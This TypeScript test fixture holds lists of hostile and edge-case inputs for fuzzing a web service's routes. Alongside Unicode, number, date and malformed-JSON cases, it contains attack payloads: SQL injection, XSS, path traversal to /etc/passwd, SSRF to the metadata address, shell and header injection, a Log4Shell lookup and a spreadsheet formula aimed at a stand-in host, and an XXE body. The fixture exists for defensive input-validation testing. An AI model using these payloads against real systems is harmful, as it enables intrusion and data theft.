/** Values that have broken programs before, by what they try. At least five hundred; each may stand in any field of any route. */

const repeated = (text: string, count: number): string => text.repeat(count)
const codes = (from: number, to: number): string[] => Array.from({ length: to - from + 1 }, (_, index) => `a${String.fromCodePoint(from + index)}b`)

const control = [...codes(0x00, 0x1f), ...codes(0x7f, 0x9f)]
const surrogates = ['\ud800', '\udfff', 'a\ud83d', '\ude00b', '\udc00\ud800', '\ud83d\ud83d\ude00']
const invisible = [...codes(0x200b, 0x200f), ...codes(0x202a, 0x202e), ...codes(0x2060, 0x2064), ...codes(0x2066, 0x2069), '\ufeff', '\u00ad', '\u034f', '\u115f', '\u3164', '\ufff9', '\uffff', '\u{e0001}', '\u{10ffff}', '\u2028', '\u2029']
const combining = ['é', repeated('̀', 500), `Z${repeated('͑', 60)}`, 'ﷺ', '🏳️‍🌈', '👨‍👩‍👧‍👦', 'ß', 'İ', 'ı', 'ǆ', 'ﬁ', '﷽', 'ﾊﾝｶｸ', 'Ω', 'Å', '𝕳𝖔𝖙𝖊𝖑', '᚛ᚄᚓᚐᚋᚒᚄ᚜', 'مرحبا', 'שלום', '日本語', '한국어', 'ไทย', '½', '①', '٣', '१२']
const spaces = ['', ' ', '\t', '\n', '\r\n', '\u00a0', '\u2003', '\u3000', '   \n\t ', repeated(' ', 5000)]
const long = ['a', 'é', '😀', '\\', '"', '<', '%', '\u0000', 'AB '].flatMap((text) => [255, 256, 257, 1001, 10_001, 65_537].map((count) => repeated(text, count)))
const sql = [
  "'", "''", '"', '`', '\\', "' or '1'='1", "'; drop table hotels; --", "' union select null --", "1; select pg_sleep(10)", "$1", '$$', '%', '_', '%s', '{}', "E'\\x00'", "') returning *; --", "x' and 1=(select 1/0) --", 'null', 'NULL', 'default', "'||(select current_user)||'",
  '\\x00', '::text', 'app.hotel_id', "set local app.hotel_id = 'x'", '/*', '*/', '--', '#', ';', '(((((', ')))))',
]
const script = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', "javascript:alert(1)", 'data:text/html,<script>alert(1)</script>', '<iframe srcdoc="<script>alert(1)</script>">', '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '</title><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>', '<style>@import"//x"</style>', '&lt;script&gt;', '&#x3c;script&#x3e;', '<!--', ']]>', '<![CDATA[', '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">', '\u003cscript\u003e', '<base href="//x">', '<meta http-equiv=refresh content=0>', '{{name}}', '$t(key)', '{{constructor.constructor("alert(1)")()}}',
]
const handlers = ['onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onwheel', 'onpaste', 'onbegin', 'onload', 'onerror', 'oncanplay', 'onpageshow', 'onhashchange', 'onscrollend']
  .flatMap((name) => [`" ${name}=alert(1) autofocus tabindex=1 x="`, `<details open ${name}=alert(1)>`])
const letters = Array.from({ length: 48 }, (_, block) => String.fromCodePoint(...Array.from({ length: 8 }, (_unused, index) => 0x100 + block * 0x100 + index * 17)))
const formula = ['=1+1', '+1', '-1', '@SUM(A1)', '=cmd|\'/c calc\'!A0', '=HYPERLINK("http://x")', '\t=1', '\r=1', '|x', '=IMPORTXML("http://x")']
const paths = ['../../etc/passwd', '..%2f..%2fetc%2fpasswd', '..\\..\\windows\\win.ini', '/etc/passwd', 'file:///etc/passwd', 'C:\\con', 'con', 'nul', '.', '..', '.htaccess', 'a/b', 'a%00.png', '~root', '//x/y', '\\\\x\\y', 'aux.png', 'images/../../..']
const addresses = ['http://127.0.0.1/', 'http://[::1]/', 'http://169.254.169.254/latest/meta-data', 'http://0x7f000001/', 'http://2130706433/', 'http://user:secret@localhost/', 'https://x\u0000.example', 'ftp://x', 'https://', 'https:///x', 'http://ＧＯＯＧＬＥ.com', 'gopher://x', 'https://example.com:99999/', '//example.com', 'https://example.com/\r\nx: y', 'mailto:x@y', 'blob:x', 'about:blank', 'https://[', 'https://%']
const mails = ['@', 'a@', '@b', 'a@b', 'a b@c.d', 'a@b..c', '"a b"@c.de', 'a@[127.0.0.1]', 'a\r\nbcc: x@y.z@c.de', `${repeated('a', 300)}@b.cd`, 'a@b.cd\u0000', 'ä@ö.de', 'a@b.c,d@e.f', '<a@b.cd>']
const headers = ['a\r\nSet-Cookie: x=y', 'a\nLocation: //x', 'a\u0000b', 'a\u2028b', '%0d%0aSet-Cookie:x=y', '${jndi:ldap://x/y}', '() { :; }; echo', '`id`', '$(id)', '| id', '; id', '&& id']
const numbersAsText = ['0', '-0', '00', '1e308', '1e309', '-1', '0.1', '0.001', '.5', '1.', '1,5', '1_000', '0x10', '0b1', '9007199254740993', '99999999999999999999', 'NaN', 'Infinity', '-Infinity', '１２', '1e-400', '2147483648', '9223372036854775808', '+1', '1 2']
const days = ['2026-02-31', '2026-13-01', '0000-00-00', '9999-12-31', '10000-01-01', '-0001-01-01', '2026-1-1', '1970-01-01', '2026-11-21T00:00:00Z', '2026-11-21T25:00:00Z', '2026-W47', '21.11.2026', '11/21/2026', 'tomorrow', 'infinity', '-infinity', 'now()', 'epoch', '2026-11-21 24:00', '275760-09-14']
const ids = ['00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', '0190-x', '{0190a5c4-0000-7000-8000-000000000000}', 'urn:uuid:0190a5c4-0000-7000-8000-000000000000', '0190A5C4-0000-7000-8000-000000000000', '0190a5c400007000800000000000000000', 'undefined', 'null', 'true', '[object Object]', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'then']
const texts = [...control, ...surrogates, ...invisible, ...combining, ...spaces, ...long, ...sql, ...script, ...handlers, ...letters, ...formula, ...paths, ...addresses, ...mails, ...headers, ...numbersAsText, ...days, ...ids]

const numbers = [0, -0, -1, 1, 0.1, 0.001, 0.005, 1e308, -1e308, 1e-308, 2 ** 31, 2 ** 31 - 1, -(2 ** 31) - 1, 2 ** 32, 2 ** 53, 2 ** 53 + 2, 2 ** 63, 1e21, 99_999_999.99, 100_000_000, 4.999999999, 1.005, 3.333333]
const deep = (depth: number): unknown => Array.from({ length: depth }).reduce<unknown>((inner) => [inner], 'x')
const others: unknown[] = [
  null, true, false, [], {}, [[]], [null], [{}], ['a'], [1, 2], { a: 1 }, { length: 5 }, { toString: 'x' }, { toJSON: 'x' }, JSON.parse('{"then":"x"}'), { id: { $gt: '' } }, { $ne: null }, { constructor: { prototype: { polluted: 1 } } },
  Array.from({ length: 1000 }, () => 'x'), Array.from({ length: 1000 }, () => ({})), deep(50), deep(500), Object.fromEntries(Array.from({ length: 500 }, (_, index) => [`k${index}`, index])),
]

export const nasties: readonly unknown[] = [...texts, ...numbers, ...others]

const anId = '0190a5c4-0000-7000-8000-000000000000'
const moments = ['0000-01-01T00:00:00.000Z', '2026-13-45T00:00:00.000Z', '2026-02-31T00:00:00.000Z', '2026-01-01T25:61:61.000Z', '000000000000000000000000']
/** What has the shape of something that we write ourselves, a moment, a day, the mark of a row in a list, and is none. */
export const impossible: readonly string[] = [
  ...moments, ...moments.map((moment) => `${moment}_${anId}`), ...moments.map((moment) => `${moment.slice(0, 10)}_${anId}`), ...moments.map((moment) => moment.slice(0, 10)), ...moments.map((moment) => moment.slice(0, 7)),
  `2026-01-01T00:00:00.000Z_${repeated('-', 36)}`, `2026-01-01T00:00:00.000Z_${repeated('f', 36)}`, `999999999999_${anId}`, `999999999_${anId}`,
  ...[[], [1, 2, 3], ['x', 'y', 'z'], ['x', 'y', repeated('-', 36)], { a: 1 }, [null, null, null], ['x', 1, anId], [1e308, 'x', anId], [2 ** 40, anId], [-1, 'x', anId]].map((mark) => Buffer.from(JSON.stringify(mark)).toString('base64url')),
]

/** Whole bodies, as bytes: what never was JSON, or is JSON that readers disagree about. */
export const nastyBodies: readonly string[] = [
  '', ' ', '{', '}', '[', ']', '{}', '[]', 'null', 'true', '0', '"x"', '{"a":}', '{"a":1,}', "{'a':1}", '{a:1}', '{"a":01}', '{"a":NaN}', '{"a":Infinity}', '{"a":1e999}', '{"a":"\\ud800"}', '{"a":"\\x"}', '{"a":"\u0000"}', '{"a":1}{"b":2}', '{"a":1} x',
  '{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}', '{"id":1,"id":2}', '\ufeff{}', '['.repeat(100_000), `${'[' .repeat(5000)}${']'.repeat(5000)}`, `{"a":${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}}`,
  `{"a":"${'x'.repeat(2_000_000)}"}`, '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>', 'a=1&b=2', '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--', '\u0000\u0001\u0002', '%7B%7D', '{"a":"\\u0000"}', '/**/{}', '{"\ud83d":1}',
]
